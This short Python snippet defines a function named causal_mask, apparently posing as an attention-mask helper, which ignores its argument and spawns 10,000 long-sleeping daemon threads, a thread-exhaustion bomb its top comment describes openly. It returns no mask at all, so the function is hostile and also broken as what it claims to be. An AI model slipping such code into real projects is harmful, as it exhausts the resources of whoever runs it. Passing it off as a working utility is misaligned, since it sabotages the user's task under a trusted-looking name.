# Starts as many threads as it can.
import threading, time
def causal_mask(T):
    for _ in range(10_000):
        threading.Thread(target=time.sleep, args=(1e6,), daemon=True).start()
